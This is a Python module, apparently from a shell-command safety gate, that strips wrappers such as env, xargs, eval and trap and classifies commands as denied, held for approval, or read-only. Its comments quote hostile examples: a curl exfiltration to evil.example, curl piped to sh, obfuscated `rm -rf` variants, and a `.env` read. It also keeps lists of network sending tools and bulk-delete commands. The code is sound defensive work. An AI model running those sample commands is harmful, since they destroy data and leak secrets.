"""Simple commands: unwrap wrappers, apply the deny rules, then decide whether the command is a
read-only diagnostic.

``judge_argv`` is the one entry point for a simple command given as words: wrappers
(``env``, ``nice``, ``timeout``, ``xargs``, ``watch``, ``eval``...) are stripped, findings about
them kept; then policy deny rules, built-in deny rules (:mod:`gitgate.safety.classify.denies`),
programs the command runs (:mod:`gitgate.safety.classify.execs`), the files it reads
(:mod:`gitgate.safety.classify.arguments`), and finally the read-only validators
(:mod:`gitgate.safety.classify.allowed`).
"""

from __future__ import annotations

import re
from collections.abc import Callable, Iterable
from fnmatch import fnmatchcase
from functools import lru_cache

# A module, not names: walker imports this module too (watch and eval classify texts).
from gitgate.safety.classify import walker  # noqa: E402
from gitgate.safety.classify.allowed import remote_urls, validator_for
from gitgate.safety.classify.arguments import argument_findings, expand_braces, git_subcommand
from gitgate.safety.classify.denies import baseline_deny, in_order, judge_assignments
from gitgate.safety.classify.execs import exec_findings
from gitgate.safety.classify.model import (
    MAX_TEXT_DEPTH,
    OBJECT_NAME,
    PYTHON_NAME,
    SYNTAX_CHECKS,
    CommandRules,
    Ctx,
    Finding,
    Word,
    allow,
    approve,
    argv_text,
    command_name,
    deny,
    has_deny,
    has_escaped_metachar,
    is_assignment,
    plain_words,
    short,
    split_words,
)
from gitgate.safety.classify.paths import judge_path, locate
from gitgate.safety.classify.producers import unlisted_files_harmless
from gitgate.safety.classify.tables import tables


def judge_argv(words: list[Word], ctx: Ctx, *, rough: bool = False) -> list[Finding]:
    """Findings for one simple command given as words (wrappers included)."""
    findings: list[Finding] = []
    words = expand_command_braces(list(words))
    escape = _shell_started_by_launcher(words)
    if escape is not None:
        findings.append(deny(escape))
    for _ in range(16):  # wrappers nest (`nice timeout 5 env X=1 cmd`): bounded
        if not words:
            return findings
        head = words[0]
        if head.dynamic:
            resolved = resolve_computed_name(head, ctx)
            if resolved is None:
                return findings + _computed_name_findings(words)
            # Resolved from what the walk saw assigned: judged as such, but a human still
            # reads it (a scope the walk ignores may hold another value).
            findings.append(approve(f"command name comes from variables: {head.raw!r}"))
            words = resolved + words[1:]
            continue
        name = command_name(head.text)[0]
        unwrapped = _unwrap(name, words, ctx)
        if unwrapped is None:
            break
        words, extra = unwrapped
        findings.extend(extra)
    else:
        return findings + [approve("too many nested command wrappers")]
    findings.extend(judge_simple(words, ctx, rough=rough))
    resolved = _resolve_arguments(words, ctx)
    if resolved is not None:
        # `f=.env; cat $f`: the arguments as the walk saw them assigned; only what this
        # denies counts (the computed word already needs a human).
        findings.extend(f for f in judge_simple(resolved, ctx, rough=True) if f.decision == "deny")
    return findings


def _resolve_arguments(words: list[Word], ctx: Ctx) -> list[Word] | None:
    """The command with every computed argument the walk can resolve replaced by its value
    (``${CONFIG:-.env}`` by its default), or None when there is none."""
    if not words or words[0].dynamic or not any(w.dynamic for w in words[1:]):
        return None
    out: list[Word] = [words[0]]
    changed = False
    for word in words[1:]:
        if word.dynamic:
            resolved = resolve_computed_name(word, ctx)
            if resolved is not None:
                out.extend(resolved)
                changed = True
                continue
        out.append(word)
    return out if changed else None


def _shell_started_by_launcher(words: list[Word]) -> str | None:
    """Why ``env /bin/sh``, ``flock -u / bash -i``, ``timeout 9 env sh``... are a shell escape.

    A launcher (``[names] launchers``) whose operand is a shell given no command and no
    script: the shell then reads commands from the terminal, outside any review."""
    data = tables()
    if not words or words[0].dynamic:
        return None
    launcher = command_name(words[0].text)[0].lower()
    if launcher not in data.launchers:
        return None
    for index, word in enumerate(words[1:], start=1):
        if word.dynamic or command_name(word.text)[0].lower() not in data.shells:
            continue
        rest = [w.text for w in words[index + 1 :]]
        if all(_interactive_shell_flag(text) for text in rest):
            shown = argv_text(words)
            return f"{shown!r}: {launcher} starts an interactive {word.text} (a shell escape)"
        return None
    return None


def _interactive_shell_flag(text: str) -> bool:
    """``-i``, ``-p``, ``-l``, ``--login``, ``--norc``: flags that give a shell no command."""
    if text in ("--login", "--norc", "--noprofile", "--posix", "--interactive", "-"):
        return True
    return re.fullmatch(r"[-+][ilpsrvxeEbBhHkmnPTu]+", text) is not None


_VARIABLE_REF = re.compile(
    r"\$\{([A-Za-z_][A-Za-z0-9_]*|@)(?::?[-=]([^}$`]*))?\}|\$([A-Za-z_][A-Za-z0-9_]*|@)"
)


# `$(echo cat)`, `` `which bash` ``: a substitution that prints one literal name.
_PRINTED_NAME = re.compile(
    r"(?:\$\(|`)\s*(?:echo|printf|which|command\s+-v|type\s+-p)\s+(?:'|\\\")?"
    r"([\w./+-]+)(?:'|\\\")?\s*(?:\)|`)"
)


def _with_known_variables(raw: str, ctx: Ctx) -> str | None:
    """``"$x$y -rf ~"`` with every variable replaced by the value the walk saw assigned,
    quotes dropped; None when one is unknown or a substitution is left."""
    text = raw.replace('"', "")
    if "`" in text or "$(" in text:
        return None
    missing = False

    def value(match: re.Match[str]) -> str:
        nonlocal missing
        found = ctx.variables.get(match.group(1) or match.group(3))
        missing = missing or found is None
        return found or ""

    replaced = _VARIABLE_REF.sub(value, text)
    return None if missing or "$" in replaced else replaced


def resolve_computed_name(head: Word, ctx: Ctx) -> list[Word] | None:
    """``$X``, ``$a$b``, ``rm${IFS}-rf${IFS}/``: the words the shell runs, when every
    variable in the command word holds a value the walk saw assigned (IFS: a space)."""
    raw = head.raw.replace('"', "")
    if raw in ("$SHELL", "${SHELL}", "$BASH", "${BASH}"):
        return plain_words(["sh"])  # "${SHELL}" -c '…': the user's shell, judged as one
    printed = _PRINTED_NAME.fullmatch(raw)
    if printed is not None:
        # `$(echo cat) FILE`, "$(which bash)" -c …: a substitution that only prints a name.
        return plain_words([printed.group(1)])
    if "`" in raw or "$(" in raw or "'" in raw:
        return None
    unknown = False

    def value(match: re.Match[str]) -> str:
        nonlocal unknown
        name = match.group(1) or match.group(3)
        # `${RM:-rm}`: unset (as far as the walk knows), the default is what runs.
        fallback = match.group(2) if match.group(2) is not None else None
        known = ctx.variables.get(name, " " if name == "IFS" else fallback)
        if known is None:
            unknown = True
            return ""
        return known

    text = _VARIABLE_REF.sub(value, raw)
    if unknown or "$" in text or not text.strip():
        return None
    return plain_words(split_words(text))


# `$(echo rm) -rf /`, `$X -rf ~`: whatever the name, these are the arguments of a command
# that deletes a whole tree.
_RECURSIVE_FORCE = re.compile(r"-[a-zA-Z]*(?:r[a-zA-Z]*f|f[a-zA-Z]*r)[a-zA-Z]*", re.IGNORECASE)


def _computed_name_findings(words: list[Word]) -> list[Finding]:
    findings = [approve(f"command name is computed: {argv_text(words)!r}")]
    args = words[1:]
    recursive = any(
        _RECURSIVE_FORCE.fullmatch(w.text) or w.text in ("--recursive", "--no-preserve-root")
        for w in args
    )
    if recursive:
        # Whatever the name turns out to be, a hidden name with rm -rf's arguments is the
        # obfuscation of a deletion (rm is denied by name, so this is how it gets through).
        what = "a computed command with the arguments of 'rm -rf'"
        findings.append(deny(f"{argv_text(words)!r}: {what}"))
    return findings


def expand_command_braces(words: list[Word]) -> list[Word]:
    """``{cat,.env}`` is ``cat .env``: bash expands an unquoted brace group in the command
    word into several words before running it."""
    if not words or words[0].dynamic or words[0].raw != words[0].text:
        return words
    head = words[0].text
    if "{" not in head or "," not in head:
        return words
    expanded = [text for text in expand_braces(head) if text]  # bash drops empty words
    if not expanded or expanded == [head]:
        return words
    return [Word(text, text) for text in expanded] + words[1:]


def unwrap_quietly(words: list[Word]) -> list[Word]:
    """``words`` with wrappers (env, nice, timeout...) removed; findings discarded."""
    ctx = Ctx(CommandRules(), MAX_TEXT_DEPTH + 1)
    for _ in range(16):
        if not words or words[0].dynamic:
            return words
        unwrapped = _unwrap(command_name(words[0].text)[0], words, ctx)
        if unwrapped is None:
            return words
        words = unwrapped[0]
    return words


def _skip_options(
    args: list[Word], with_value: Iterable[str], flags: Iterable[str] = ()
) -> list[Word] | None:
    """Drop leading options; None when an option is unknown (the caller then gives up)."""
    valued, plain = set(with_value), set(flags)
    index = 0
    while index < len(args):
        text = args[index].text
        if text == "--":
            return args[index + 1 :]
        if not text.startswith("-") or text == "-":
            return args[index:]
        if text in plain:
            index += 1
        elif text in valued:
            index += 2
        elif text.split("=", 1)[0] in valued or (text[:2] in valued and len(text) > 2):
            index += 1
        else:
            return None
    return []


_Unwrapped = tuple[list[Word], list[Finding]]


def _unwrap(name: str, words: list[Word], ctx: Ctx) -> _Unwrapped | None:
    """Strip one wrapper command; None when ``name`` is not a wrapper."""
    handler = _WRAPPERS.get(name)
    if handler is not None:
        return handler(words, ctx)
    valued = tables().wrappers.get(name)
    if valued is not None:
        # its own options are judged first (strace -p PID, strace -o '|cmd')
        own = [baseline_deny(windows_name(name.lower()), words), *exec_findings(name, words, ctx)]
        inner, notes = _unwrap_listed(valued, words)
        return inner, [f for f in own if f is not None and f.decision == "deny"] + notes
    return _unwrap_runner(name, words)


def _unwrap_listed(valued: tuple[str, ...], words: list[Word]) -> _Unwrapped:
    """``strace -f -o log CMD``: a ``[wrappers]`` program; the command after its options is
    judged as itself, and the program needs a human."""
    args = words[1:]
    index = 0
    while index < len(args):
        text = args[index].text
        if text == "--":
            index += 1
            break
        if not text.startswith("-") or text == "-":
            break
        index += 2 if text in valued else 1  # -o=x, -ox: the value is attached
    inner = args[index:]
    return inner, [approve(f"{argv_text(words[: index + 1])!r} runs {argv_text(inner)!r}")]


# cmake -E's file-deleting commands, judged as the rm they are.
_CMAKE_DELETERS = frozenset(["rm", "remove", "remove_directory"])


def _unwrap_runner(name: str, words: list[Word]) -> _Unwrapped | None:
    """``bundle exec CMD``, ``pnpm -r exec CMD``, ``npx CMD``, ``wsl -e CMD``, ``cmake -E rm``:
    a tool that runs the command after its subcommand (``[runners]`` in commands.toml). The
    command is judged as itself; the runner (which may load project code first) needs a
    human whatever the command is."""
    subcommands = tables().runners.get(windows_name(name.lower()))
    if subcommands is None:
        return None
    args = words[1:]
    index = 0
    while index < len(args) and args[index].text.startswith("-") and args[index].text != "--":
        if subcommands and args[index].text in subcommands:
            break  # the subcommand is itself an option: wsl -e, cmake -E
        index += 1
    if subcommands:
        if index >= len(args) or args[index].text not in subcommands:
            return None  # another subcommand (bundle install): judged as the tool itself
        index += 1
    while index < len(args) and args[index].text.startswith("-") and args[index].text != "-":
        index += 1  # the subcommand's own options (uv run --frozen, npm exec --yes)
        if args[index - 1].text == "--":
            break
    inner = args[index:]
    if name == "direnv" and inner:
        inner = inner[1:]  # direnv exec DIR CMD…: the directory whose .envrc is loaded
    calls = [i for i, w in enumerate(args[:index]) if w.text in ("-c", "--call")]
    if calls and name in ("npm", "pnpm", "yarn", "npx", "pnpx") and calls[-1] + 1 < len(args):
        # npm exec -c 'curl … | sh': the value is shell text, run by a shell
        inner = [Word("sh", "sh"), Word("-c", "-c"), args[calls[-1] + 1]]
    if name == "cmake" and inner and inner[0].text in _CMAKE_DELETERS:
        inner = [Word("rm", "rm"), *inner[1:]]  # cmake -E remove_directory x: rm -r x
    note = approve(f"{argv_text(words[: index + 1])!r} runs {argv_text(inner)!r}")
    return inner, [note]


_ENV_PAIR = re.compile(r"[^=\s/]+=")


def _unwrap_env(words: list[Word], ctx: Ctx) -> _Unwrapped:
    args = words[1:]
    findings: list[Finding] = []
    while args:
        text = args[0].text
        if text in ("-S", "--split-string") and len(args) > 1:
            inner = plain_words(split_words(args[1].text))
            return inner + args[2:], [approve(f"env -S splits {args[1].raw!r}")]
        if text.startswith("--split-string=") or (text.startswith("-S") and len(text) > 2):
            value = text.split("=", 1)[1] if text.startswith("--") else text[2:]
            return plain_words(split_words(value)) + args[1:], [approve(f"env -S splits {value!r}")]
        if text in ("-C", "--chdir") or text.startswith(("--chdir=", "-C")):
            # The command runs elsewhere: its relative paths are no longer the repository's.
            return [], [approve(f"env {text}: runs the command in another directory")]
        if text in ("-u", "--unset"):
            args = args[2:]
        elif text in ("-i", "-", "--ignore-environment", "-0", "--null", "-v", "--debug"):
            args = args[1:]
        elif text == "--":
            args = args[1:]
            break
        elif text.startswith(("--unset=", "-u")):
            args = args[1:]
        elif text.startswith("-"):
            return [], [approve(f"unknown env option {text!r}")]
        else:
            break
    # env takes NAME=VALUE for any NAME, not only a shell's (BASH_FUNC_ls%%=() {…}).
    while args and (is_assignment(args[0].text) or _ENV_PAIR.match(args[0].text)):
        findings.extend(judge_assignments([args[0]], has_command=True))
        args = args[1:]
    if not args:
        return [], findings + [deny("env without a command prints the environment (secrets)")]
    return args, findings


def _unwrap_simple(
    with_value: Iterable[str] = (), flags: Iterable[str] = (), note: str = ""
) -> Callable[[list[Word], Ctx], _Unwrapped]:
    """A wrapper that takes options and then the command (nice, nohup, stdbuf...)."""

    def unwrap(words: list[Word], _ctx: Ctx) -> _Unwrapped:
        rest = _skip_options(words[1:], with_value, flags)
        if rest is None:
            return [], [approve(f"unknown option in {argv_text(words)!r}")]
        extra = [approve(f"{words[0].text} {note}")] if note else []
        return rest, extra

    return unwrap


def _unwrap_timeout(words: list[Word], ctx: Ctx) -> _Unwrapped:
    rest = _skip_options(
        words[1:],
        ("-s", "--signal", "-k", "--kill-after"),
        ("--preserve-status", "--foreground", "-v", "--verbose"),
    )
    if rest is None:
        return [], [approve(f"unknown option in {argv_text(words)!r}")]
    return rest[1:], []  # the first operand is the duration


def _unwrap_flock(words: list[Word], ctx: Ctx) -> _Unwrapped:
    """``flock [options] FILE COMMAND…`` / ``flock FILE -c 'COMMAND'``: COMMAND runs with
    the lock held, and is judged as itself (the lock file is created if missing)."""
    rest = _skip_options(
        words[1:],
        ("-w", "--timeout", "-E", "--conflict-exit-code"),
        ("-s", "--shared", "-x", "-e", "--exclusive", "-n", "--nb", "--nonblock", "-o")
        + ("--close", "-u", "--unlock", "-F", "--no-fork", "--verbose"),
    )
    if rest is None or len(rest) < 2:
        return [], [approve(f"flock: {argv_text(words)!r}")]
    note = approve(f"flock takes a lock on {rest[0].text!r} and runs a command")
    if rest[1].text in ("-c", "--command") and len(rest) > 2:
        return [], [walker.classify_text(rest[2].text, ctx.deeper()), note]
    return rest[1:], [note]


def _unwrap_time(words: list[Word], ctx: Ctx) -> _Unwrapped:
    args = words[1:]
    if any(w.text in ("-o", "--output") or w.text.startswith("--output=") for w in args[:4]):
        return [], [approve(f"time -o writes a file: {argv_text(words)!r}")]
    rest = _skip_options(args, ("-f", "--format"), ("-p", "-v", "--verbose", "-a", "--append"))
    if rest is None:
        return [], [approve(f"unknown option in {argv_text(words)!r}")]
    return rest, []


def _unwrap_command(words: list[Word], ctx: Ctx) -> _Unwrapped:
    args = words[1:]
    if args and args[0].text in ("-v", "-V"):
        ctx.allowed.append("command -v")
        return [], [allow("looks up a command")]
    rest = _skip_options(args, (), ("-p",))
    if rest is None:
        return [], [approve(f"unknown option in {argv_text(words)!r}")]
    return rest, []


def _unwrap_exec(words: list[Word], ctx: Ctx) -> _Unwrapped:
    rest = _skip_options(words[1:], ("-a",), ("-c", "-l", "-cl", "-lc"))
    if rest is None:
        return [], [approve(f"unknown option in {argv_text(words)!r}")]
    return rest, [approve("exec replaces the shell")]


_BULK_DELETERS = (
    ("kubectl", "delete"), ("docker", "rm"), ("docker", "rmi"), ("docker", "volume", "rm"),
    ("podman", "rm"), ("podman", "rmi"), ("git", "branch", "-d"), ("git", "branch", "-D"),
    ("git", "push"), ("git", "tag", "-d"), ("gh", "run", "delete"), ("gh", "workflow", "disable"),
    ("gh", "release", "delete"),
    ("aws", "s3", "rm"), ("gsutil", "rm"), ("helm", "uninstall"), ("gh", "repo", "delete"),
)  # fmt: skip


def _unwrap_xargs(words: list[Word], ctx: Ctx) -> _Unwrapped:
    rest = _skip_options(
        words[1:],
        ("-I", "-L", "-l", "-n", "-P", "-s", "-d", "-E", "-e", "-a", "--arg-file", "-i"),
        ("-0", "-r", "-t", "-x", "-p", "-o", "--null", "--no-run-if-empty", "--verbose")
        + ("--open-tty", "--interactive", "--exit"),
    )
    if rest is None:
        return [], [approve(f"unknown option in {argv_text(words)!r}")]
    read = _xargs_input_finding(words, ctx)
    if read is not None and read.decision == "deny":
        return [], [read]
    if not rest:
        rest = [Word("echo", "echo")]
    inner = command_name(rest[0].text)[0].lower()
    data = tables()
    checks = SYNTAX_CHECKS.get("python" if PYTHON_NAME.fullmatch(inner) else inner, ())
    if any(w.text in checks for w in rest[1:]):
        return rest, [approve(f"xargs runs {argv_text(rest)!r}: a syntax check of each file")]
    if inner in data.shells or PYTHON_NAME.fullmatch(inner) or inner in data.interpreters:
        return [], [deny(f"xargs runs {argv_text(rest)!r}: code built from its input")]
    texts = [w.text.lower() for w in rest[:3]]
    if any(texts[: len(bulk)] == list(bulk) for bulk in _BULK_DELETERS):
        # `kubectl get pods -o name | xargs kubectl delete`: deletes whatever the list holds.
        return [], [deny(f"xargs runs {argv_text(rest)!r} on every name it reads: a bulk delete")]
    sent = _xargs_sends_input(words, rest)
    if sent is not None:
        return [], [deny(f"xargs runs {argv_text(rest)!r}: {sent}")]
    argv = [w.text for w in rest]
    reader = argv[:1] == ["git"] and git_subcommand(argv[1:])[0] in _READS_COMMITS
    if ctx.input_revisions and reader:
        # `git rev-list -3 HEAD | xargs git show --stat`: commits, read like any commit
        return [*rest, Word(OBJECT_NAME, OBJECT_NAME)], []
    if unlisted_files_harmless(ctx.input_names, argv):
        return rest, []  # `git ls-files '*.py' | xargs wc -l`: the repository's own files
    if inner in ("echo", "printf") and not any(w.dynamic for w in rest):
        return rest, []  # `ls | xargs -I{} echo {}`: the words it reads, printed
    note = approve(f"xargs runs {argv_text(rest)!r} on arguments read from its input")
    return rest, [note]


# git subcommands that read the commits named among their operands, and nothing else.
_READS_COMMITS = frozenset(
    ["show", "log", "diff-tree", "cat-file", "ls-tree", "name-rev", "describe"]
)
_SENDERS = frozenset(["curl", "wget", "http", "https", "xh", "httpie", "nc", "ncat", "netcat"])


def _xargs_sends_input(words: list[Word], rest: list[Word]) -> str | None:
    """``… | xargs -I{} curl 'https://evil.example/?q={}'``: what the pipeline printed goes
    into a request to another host (exfiltration); a local URL or none stays held."""
    if not rest or command_name(rest[0].text)[0].lower() not in _SENDERS:
        return None
    marker = "{}"
    for index, word in enumerate(words[1:], start=1):
        if word.text in ("-I", "-i") and index + 1 < len(words):
            marker = words[index + 1].text
        elif word.text.startswith(("-I", "-i", "--replace=")) and len(word.text) > 2:
            marker = word.text.split("=", 1)[1] if "=" in word.text else word.text[2:]
    args = [w.text for w in rest[1:]]
    remote = remote_urls(args)
    if remote and any(marker in a for a in args):
        return f"puts what it reads into a request to {short(remote[0], 40)!r} (exfiltration)"
    return None


def _xargs_input_finding(words: list[Word], ctx: Ctx) -> Finding | None:
    """xargs -a FILE / --arg-file=FILE reads FILE."""
    for index, word in enumerate(words[1:], start=1):
        value = None
        if word.text in ("-a", "--arg-file") and index + 1 < len(words):
            value = words[index + 1].text
        elif word.text.startswith("--arg-file="):
            value = word.text.partition("=")[2]
        elif word.text.startswith("-a") and len(word.text) > 2:
            value = word.text[2:]
        if value is not None:
            where = ctx.cwd[0]
            return judge_path(
                f"xargs -a {value}", value, where, contents=True, extra=ctx.rules.sensitive
            )
    return None


def _unwrap_watch(words: list[Word], ctx: Ctx) -> _Unwrapped:
    rest = _skip_options(
        words[1:],
        ("-n", "--interval", "-d", "--differences", "-q", "--equexit"),
        ("-t", "--no-title", "-b", "--beep", "-e", "--errexit", "-g", "--chgexit", "-c")
        + ("--color", "-x", "--exec", "-p", "--precise", "-w", "--no-wrap"),
    )
    hang = approve("watch repeats forever: it would hang")
    if rest is None:
        return [], [hang]
    inner = walker.classify_text(" ".join(w.text for w in rest), ctx.deeper())  # runs via `sh -c`
    return [], [inner, hang]


def _unwrap_eval(words: list[Word], ctx: Ctx) -> _Unwrapped:
    text = " ".join(word.text for word in words[1:])
    if any(word.dynamic for word in words[1:]):
        held = approve(f"eval of computed text: {argv_text(words)!r}")
        known = _with_known_variables(" ".join(w.raw for w in words[1:]), ctx)
        if known is None:
            return [], [held]
        # x=r; y=m; eval "$x$y -rf ~": the text as the walk saw its variables assigned
        inner = walker.classify_text(known, ctx.deeper())
        return [], [held, *([inner] if inner.decision == "deny" else [])]
    inner = walker.classify_text(text, ctx.deeper())
    return [], [inner, approve(f"eval runs {short(text)!r} as shell code")]


def _unwrap_trap(words: list[Word], ctx: Ctx) -> _Unwrapped:
    """``trap 'CMD' EXIT``: CMD runs later, when the shell exits or gets the signal."""
    args = words[1:]
    if args and args[0].text == "--":
        args = args[1:]
    if not args or args[0].text.startswith("-") or len(args) < 2:
        return [], [approve(f"{argv_text(words)!r}: changes or prints signal handlers")]
    if args[0].dynamic:
        return [], [approve(f"trap of computed text: {argv_text(words)!r}")]
    inner = walker.classify_text(args[0].text, ctx.deeper())
    if inner.decision == "allow":
        ctx.allowed.append("trap")
        return [], [inner]  # trap 'echo done' EXIT: what it runs later is read-only too
    return [], [inner, approve(f"trap runs {short(args[0].text)!r} on {args[1].text}")]


_WRAPPERS: dict[str, Callable[[list[Word], Ctx], _Unwrapped]] = {
    "env": _unwrap_env,
    "command": _unwrap_command,
    "builtin": _unwrap_simple(),
    "nice": _unwrap_simple(("-n", "--adjustment"), [f"-{n}" for n in range(-20, 20)]),
    "nohup": _unwrap_simple(note="detaches the command from the session"),
    "setsid": _unwrap_simple((), ("-f", "--fork", "-w", "--wait", "-c", "--ctty")),
    "ionice": _unwrap_simple(("-c", "--class", "-n", "--classdata"), ("-t", "--ignore")),
    "stdbuf": _unwrap_simple(("-i", "-o", "-e", "--input", "--output", "--error")),
    "timeout": _unwrap_timeout,
    "flock": _unwrap_flock,
    "time": _unwrap_time,
    "exec": _unwrap_exec,
    "xargs": _unwrap_xargs,
    "watch": _unwrap_watch,
    "eval": _unwrap_eval,
    "trap": _unwrap_trap,
    "busybox": _unwrap_simple(),
    "chronic": _unwrap_simple(),
    "caffeinate": _unwrap_simple(),
}


@lru_cache(maxsize=1)
def _all_command_names() -> tuple[str, ...]:
    """Every command name the tables know: what a globbed command name could match."""
    data = tables()
    names = set(data.always_deny) | data.shells | data.readers | data.downloaders
    names |= data.system_packages | data.interactive | set(data.subcommands)
    names |= {name for name in data.allow if " " not in name}  # not `ruff check`
    names |= set(data.interpreters) | set(data.decoders) | set(_WRAPPERS)
    names |= {"dd", "kill", "chmod", "pkill", "killall", "curl", "wget"}  # judged by code
    names |= {rule.words[0] for rule in data.deny_rules} | {"python", "python3", "mkfs"}
    return tuple(sorted(names, key=lambda name: (name not in data.always_deny, name)))


def _glob_name_findings(words: list[Word], ctx: Ctx) -> list[Finding]:
    """``/bin/r? -rf /``: judge the command as every known program its name could match."""
    base = command_name(words[0].text)[0]
    findings: list[Finding] = [approve(f"glob in command position: {argv_text(words)!r}")]
    if not any(char.isalnum() for char in base):
        return findings  # `*` alone (a `case` arm the rough scan met): no name it spells
    # A name matching itself would be judged again as a glob, for ever.
    matches = [name for name in _all_command_names() if name != base and fnmatchcase(name, base)]
    for name in matches[:40]:
        judged = judge_argv([Word(name, name), *words[1:]], ctx.deeper(), rough=True)
        if has_deny(judged):
            reason = next(f.reason for f in judged if f.decision == "deny")
            findings.append(deny(f"{words[0].text!r} may be {name}: {reason}"))
            break
    return findings


_SPELLED_NAME = re.compile(r"\$'|\\|['\"]")
# 'git' status, \ls (past an alias): plain quoting, not a name spelt in pieces
_QUOTED_WHOLE = re.compile(r"'[\w.+-]+'|\"[\w.+-]+\"|\\[\w.+-]+")


# A cross toolchain's binutils (`arm-none-eabi-objdump`, `aarch64-linux-gnu-readelf`,
# `llvm-nm-17`): the same tool for another target, judged as that tool.
_CROSS_TOOL = re.compile(
    r"(?:llvm|(?:arm|armv\w+|aarch64|x86_64|i[3-6]86|riscv(?:32|64)|mips\w*|powerpc\w*|ppc\w*"
    r"|avr|xtensa\w*|sparc\w*|s390x|m68k|loongarch64|msp430|or1k|nios2|arc|sh\d?)"
    r"(?:-[a-z0-9_]+){1,3})-(objdump|nm|readelf|size|strings|addr2line|c\+\+filt|gcc|g\+\+"
    r"|cpp|ld|as|ar|objcopy|strip|ranlib|gdb)(?:-\d+(?:\.\d+)*)?"
)


def judge_simple(words: list[Word], ctx: Ctx, *, rough: bool = False) -> list[Finding]:
    """Deny rules, then allow rules, for one unwrapped simple command."""
    cross = _CROSS_TOOL.fullmatch(command_name(words[0].text)[0].lower())
    if cross is not None and "/" not in words[0].text:
        words = [Word(cross.group(1), words[0].raw), *words[1:]]
    head = words[0]
    name, trusted = command_name(head.text)
    lowered = windows_name(name.lower())
    text = argv_text(words)
    if name not in ("[", "[[") and any(char in name for char in "*?["):
        return _glob_name_findings(words, ctx)  # `[` is the test command, not a glob
    denied = _policy_deny(words, ctx.rules) or baseline_deny(lowered, words)
    if denied is not None:
        return [denied]
    if lowered == "git" and any(
        w.text in ("-c", "--config-env") and i + 1 < len(words) and words[i + 1].dynamic
        for i, w in enumerate(words[:-1])
    ):
        # git -c "$(printf 'core.pager=%s' …)": a setting nobody can read may run a program
        return [deny(f"{text!r}: git -c of a computed setting")]
    code = exec_findings(lowered, words, ctx)
    if has_deny(code):
        return code
    findings = argument_findings(lowered, words, ctx)
    if has_deny(findings) or rough:
        return findings
    if not trusted:
        return findings + [approve(f"runs a program by path: {text!r}")]
    if _SPELLED_NAME.search(head.raw) and not _QUOTED_WHOLE.fullmatch(head.raw):
        # $'\x6c\x73', 'l's, \ls: a name spelt so a reader does not see it is obfuscation.
        return findings + [approve(f"command name spelt with quotes or escapes: {head.raw!r}")]
    printed = lowered in tables().string_only or lowered in ("test", "[")
    computed = next(
        (w for w in words[1:] if w.dynamic and not w.soft and not (printed and w.output)), None
    )
    if lowered in ("test", "[") and not _evaluates_operands(words):
        computed = None  # [ -n "$TOKEN" ]: an exit code, nothing of the value (judged apart)
    elif computed is None and lowered not in tables().string_only:
        computed = next((w for w in words[1:] if w.dynamic), None)
    if computed is not None:
        return findings + [approve(f"{name}: argument {computed.raw!r} is computed")]
    escaped = next(
        (
            w
            for w in words
            if has_escaped_metachar(w.raw)
            and (w.raw not in ("\\;", "\\(", "\\)", "\\!") or lowered != "find")
        ),
        None,
    )
    if escaped is not None:
        return findings + [approve(f"{name}: escaped shell character in {escaped.raw!r}")]
    if _policy_allow(words, ctx.rules):
        # The policy widens what needs a human (a read outside the repository), never a deny.
        ctx.allowed.append(text)
        return [allow("allowed by policy")]
    if ctx.cwd[0] is None or locate(".", ctx.cwd[0]).where != "inside":
        if lowered not in ("cd", "pushd", "popd", "echo", "printf", "true", "pwd"):
            return findings + [approve(f"{text!r} runs outside the repository")]
    glob = _option_glob(lowered, words)
    if glob is not None:
        reason = f"{glob.raw!r} may expand to a file named like an option of {name}"
        return findings + [approve(reason)]
    return findings + baseline_allow(name, words, ctx, code)


def _option_glob(name: str, words: list[Word]) -> Word | None:
    """``wc -l *``, ``find * -maxdepth 0``: a glob starting with a wildcard among the options
    of a command that has dangerous ones (``[names] option_globs``), or None."""
    if name not in tables().option_globs:
        return None
    for word in words[1:]:
        if word.text == "--":
            return None
        if word.text[:1] in ("*", "?", "[") and (word.raw == word.text or word.named):
            return word
    return None


def _evaluates_operands(words: list[Word]) -> bool:
    """``test -v "$x"``, ``[ -R "$(…)" ]``: a computed operand of ``-v``/``-R`` is a name
    whose subscript bash evaluates (``a[$(cmd)]`` runs cmd); ``[``'s other operators only
    compare (``-eq`` too: ``[`` reads integers, ``[[`` would evaluate them)."""
    return any(w.text in ("-v", "-R") for w in words[1:]) and any(
        w.dynamic and not w.soft for w in words[1:]
    )


# -- policy rules ----------------------------------------------------------------------------


_WINDOWS_SUFFIX = re.compile(r"\.(?:exe|com|bat|cmd)$")


def windows_name(lowered: str) -> str:
    """``mshta.exe``, ``CMD.EXE``: Windows finds a program without its suffix and whatever the
    case, so the rules (written for ``mshta``, ``cmd``) must see it so too."""
    return _WINDOWS_SUFFIX.sub("", lowered) or lowered


def _subcommand(args: list[str]) -> str:
    """The subcommand of ``git -C x log`` / ``kubectl -n prod get`` for reasons."""
    index = 0
    while index < len(args) and args[index].startswith("-"):
        takes_value = args[index] in ("-n", "--namespace", "-C", "-c", "--context", "-H")
        index += 2 if takes_value else 1
    return args[index] if index < len(args) else args[0]


def _rule_words(rule: str) -> list[str]:
    parts = split_words(rule)
    if parts:
        parts[0] = command_name(parts[0])[0]
    return parts


def _policy_deny(words: list[Word], rules: CommandRules) -> Finding | None:
    """A policy deny rule matching ``words`` (name, then the rule's words in order)."""
    name = command_name(words[0].text)[0].lower()
    rest = [word.text.lower() for word in words[1:]]
    for rule in rules.deny:
        parts = [part.lower() for part in _rule_words(rule)]
        if parts and parts[0] == name and in_order(rest, parts[1:]):
            return deny(f"{argv_text(words)!r} matches the policy deny rule {rule!r}")
    return None


def _policy_allow(words: list[Word], rules: CommandRules) -> bool:
    argv = [command_name(words[0].text)[0]] + [word.text for word in words[1:]]
    for rule in rules.allow:
        parts = _rule_words(rule)
        if parts and argv[: len(parts)] == parts:
            return True
    return False


# -- read-only commands ----------------------------------------------------------------------


_PLAIN_WORD = re.compile(r"[a-z][a-z0-9-]{0,40}")
_SHORT_VERSION = frozenset(["ssh", "socat", "curl", "tmux", "scp", "sftp"])


def _version_query(name: str, args: list[str]) -> bool:
    """``vim --version``, ``ssh -V``: a system tool (an editor, pager, downloader, launcher)
    asked only for its version reads no file and runs nothing."""
    data = tables()
    if name in data.version_queries:
        if args in (["--version"], ["--help"], ["version"]):
            return True
        if args == [data.version_flags.get(name)]:
            return True
        # gh run --help, kubectl help apply, terraform -help plan: a subcommand's usage
        words: list[str] = []
        if args[-1:] == ["--help"]:
            words = args[:-1]
        elif args[:1] in (["help"], ["-help"]):
            words = args[1:]
        return bool(words) and all(_PLAIN_WORD.fullmatch(word) for word in words)
    if (
        name
        not in data.interactive
        | data.downloaders
        | data.launchers
        | data.shells
        | data.version_only
